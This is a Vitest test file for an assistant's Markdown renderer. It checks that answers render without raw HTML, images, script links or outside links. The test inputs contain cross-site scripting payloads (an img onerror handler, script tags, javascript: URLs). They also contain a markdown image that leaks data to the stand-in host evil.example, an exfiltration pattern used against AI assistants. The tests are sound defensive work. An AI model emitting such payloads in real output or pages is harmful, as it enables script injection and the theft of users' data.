import { renderToStaticMarkup } from 'react-dom/server';
import { MemoryRouter } from 'react-router-dom';
import { describe, expect, it } from 'vitest';
import { Markdown } from '../../../src/client/assistant/Markdown';

const html = (text: string, links: 'internal' | 'web' = 'internal') =>
  renderToStaticMarkup(
    <MemoryRouter>
      <Markdown text={text} links={links} />
    </MemoryRouter>,
  );

describe('answers as Markdown', () => {
  it('renders no raw HTML, however it got into the text', () => {
    const out = html('Hello <img src=x onerror="alert(1)"> <b>bold</b> <script>alert(2)</script> **real bold**');
    expect(out).not.toMatch(/<img|<script|onerror|<b>/);
    expect(out).toContain('<strong>real bold</strong>');
  });

  it('shows no images (an image would load an address outside the product)', () => {
    expect(html('![secret](https://evil.example/leak?data=names)')).not.toContain('<img');
  });

  it('links only inside the product; another address is text', () => {
    const out = html('[Cedar Tower](/sites/12/show) and [click](https://evil.example/x) and [js](javascript:alert(1))');
    expect(out).toMatch(/<a [^>]*href="\/sites\/12\/show"[^>]*>Cedar Tower<\/a>/);
    expect(out).not.toContain('href="https://evil.example');
    expect(out).toContain('click (https://evil.example/x)');
    expect(out).not.toContain('javascript:');
  });

  it('links web addresses in what people wrote (a rich text field) in a new tab, and never a script', () => {
    const out = html(
      '[plan](https://example.com/plan) [mail](mailto:a@example.com) [js](javascript:alert(1)) <b>x</b>',
      'web',
    );
    expect(out).toMatch(/<a [^>]*href="https:\/\/example.com\/plan"[^>]*target="_blank"[^>]*>plan<\/a>/);
    expect(out).toMatch(/rel="noopener noreferrer nofollow"/);
    expect(out).toContain('href="mailto:a@example.com"');
    expect(out).not.toMatch(/javascript:|<b>/);
  });
});
